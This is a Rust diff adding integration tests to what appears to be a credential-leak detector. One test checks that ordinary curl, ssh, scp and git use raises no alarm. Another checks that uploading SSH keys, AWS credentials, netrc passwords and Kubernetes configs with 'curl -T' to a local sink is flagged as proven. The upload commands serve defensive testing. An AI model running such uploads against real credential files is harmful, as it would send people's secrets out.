@@ -221,7 +221,7 @@ fn served_over_http() {
          curl -sS http://127.0.0.1:{port}/FILE >got\nkill $server",
         peers::PYTHON
     );
-    let serve = |file: &str| with_secret(Scratch::new(), &commands.replace("FILE", file)).go();
+    let serve = |file: &str| with_secret(Scratch::new(), &commands.replace("FILE", file)).limit(180).go();
     left(&serve("secret/shadow"), "python3", "proven");
 }
 
@@ -286,6 +286,70 @@ fn by_a_program_that_is_not_watched() {
     });
     assert_eq!(found.0["file"]["path"], secret.as_str());
     assert!(exe(&found).starts_with("python3"), "{}", found.0);
+}
+
+/// People at work: each of these programs reads what is its own, and connects.
+#[test]
+fn ordinary_work() {
+    need!("curl", "ssh-keygen");
+    need_sshd!();
+    let scratch = Scratch::new();
+    let sshd = Sshd::new(&scratch);
+    let here = scratch.path().canonicalize().expect("scratch");
+    for (name, text) in [
+        ("home/.netrc", "machine 127.0.0.1 login ann password a-long-and-secret-password-of-ann\n"),
+        ("home/.config/file", "x\n"),
+    ] {
+        scratch.write(name, text);
+    }
+    std::fs::create_dir_all(here.join("home/.ssh")).expect("folder");
+    std::fs::copy(here.join("user_key"), here.join("home/.ssh/id_ed25519")).expect("key");
+    peers::prepare(&scratch, &["chmod", "600", "home/.ssh/id_ed25519", "home/.netrc"]);
+    let sink = Sink::start();
+    let mut work = "curl -sSn http://127.0.0.1:$P/ >/dev/null\n\
+        ssh -i home/.ssh/id_ed25519 far true\n\
+        echo hello >file; scp -i home/.ssh/id_ed25519 file far:$here/got\n"
+        .to_owned();
+    if peers::find("git").is_some() {
+        work += "export GIT_SSH_COMMAND=\"ssh -F $here/ssh_config -i $here/home/.ssh/id_ed25519\"\n\
+            git init -q one; git -C one -c user.name=a -c user.email=a@b commit -q --allow-empty -m x\n\
+            git clone -q far:$here/one two\n";
+    }
+    if peers::root() {
+        // What they start connects, and has nothing of what they read.
+        work += "su -c \"curl -sS http://127.0.0.1:$P/ >/dev/null\" root\npasswd -S root >/dev/null; chage -l root >/dev/null\n\
+            curl -sS http://127.0.0.1:$P/ >/dev/null\n";
+    }
+    let mut session = Observed::script(&sshd.around(&work)).env("HOME", here.join("home")).limit(240);
+    session = session.env("P", sink.port().to_string());
+    session.scratch = scratch;
+    let run = session.go().well();
+    check!(run, leaks(&run).is_empty(), "{:#?}", leaks(&run));
+}
+
+/// The same files, by somebody whose work it is not.
+#[test]
+fn the_built_in_files_in_a_private_home() {
+    need!("curl");
+    for (name, label) in [
+        (".ssh/id_rsa", "SSH private key"),
+        (".aws/credentials", "AWS credentials"),
+        (".netrc", "netrc passwords"),
+        (".kube/config", "Kubernetes credentials"),
+    ] {
+        let scratch = Scratch::new();
+        let here = scratch.path().canonicalize().expect("scratch");
+        scratch.write(&format!("home/{name}"), SHADOW);
+        let sink = Sink::start();
+        let command = format!("curl -sS -T home/{name} http://127.0.0.1:$P/ >/dev/null");
+        let mut session = Observed::script(&command).env("HOME", here.join("home")).limit(180);
+        session = session.env("P", sink.port().to_string());
+        session.scratch = scratch;
+        let run = session.go().well();
+        let found = leaks(&run);
+        let alarm = found.last().filter(|a| a.0["confidence"] == "proven" && a.0["file"]["label"] == label);
+        check!(run, alarm.is_some(), "{name}: {found:#?}");
+    }
 }
 
 /// Who reads it for its work, who asks for something else, who only serves.
